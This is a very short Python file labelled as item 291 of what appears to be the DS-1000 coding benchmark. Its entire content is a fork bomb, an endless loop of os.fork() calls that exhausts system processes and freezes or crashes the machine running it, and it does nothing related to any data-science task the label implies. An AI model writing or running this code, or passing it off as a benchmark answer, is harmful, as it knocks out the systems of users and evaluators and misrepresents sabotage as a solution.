# DS1000/291
import os

while True:
    os.fork()
